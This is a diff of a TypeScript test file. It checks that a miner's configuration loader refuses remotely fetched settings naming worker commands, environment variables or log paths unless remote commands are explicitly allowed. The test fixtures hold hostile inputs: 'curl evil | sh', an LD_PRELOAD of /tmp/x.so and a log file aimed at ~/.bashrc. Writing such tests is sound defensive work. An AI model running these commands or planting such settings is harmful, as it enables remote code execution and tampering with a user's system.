@@ -3,6 +3,8 @@ import type { Server, ServerResponse } from 'node:http';
 import type { AddressInfo } from 'node:net';
 import { afterEach, beforeEach, describe, expect, it } from 'vitest';
 import { describeConfigError } from '../../command-line/config-sentences.ts';
+import { DEFAULT_CONFIG } from '../miner-config.ts';
+import { printConfig } from './config-print.ts';
 import { readConfigSource } from './config-source.ts';
 
 let server: Server;
@@ -59,9 +61,30 @@ describe('a configuration at an address', () => {
     ['other side closed', (response) => response.destroy()],
   ])('is refused when %s', async (message, answering) => {
     answer = answering;
-    const read = await readConfigSource(address, message.includes('200 ms') ? 200 : 5_000);
+    const read = await readConfigSource(address, {
+      timeoutMs: message.includes('200 ms') ? 200 : 5_000,
+    });
     expect(!read.ok && describeConfigError(read.error)).toContain(message);
     expect(!read.ok && describeConfigError(read.error).startsWith(address)).toBe(true);
+  });
+
+  it.each([
+    ['externalWorkerCommand', 'externalWorkerCommand: curl evil | sh'],
+    ['externalWorkerCommands', 'externalWorkerCommands: [./w]'],
+    ['externalWorkerEnvironment', 'externalWorkerEnvironment: {LD_PRELOAD: /tmp/x.so}'],
+    ['logFile', 'logFile: /home/ada/.bashrc'],
+  ])('may name %s only where that is allowed', async (key, text) => {
+    answer = answering('text/yaml', `worker: external\n${text}\n`);
+    const refused = await readConfigSource(address);
+    expect(refused).toEqual({ ok: false, error: { kind: 'from-network', location: address, key } });
+    expect(!refused.ok && describeConfigError(refused.error)).toContain('--allow-remote-commands');
+    const allowed = await readConfigSource(address, { allowRemoteCommands: true });
+    expect(allowed).toMatchObject({ ok: true });
+  });
+
+  it('may be a full print, whose command is the default', async () => {
+    answer = answering('text/yaml', printConfig({ config: DEFAULT_CONFIG }, 'full'));
+    expect((await readConfigSource(address)).ok).toBe(true);
   });
 
   it('is refused when no server answers or the address is none', async () => {
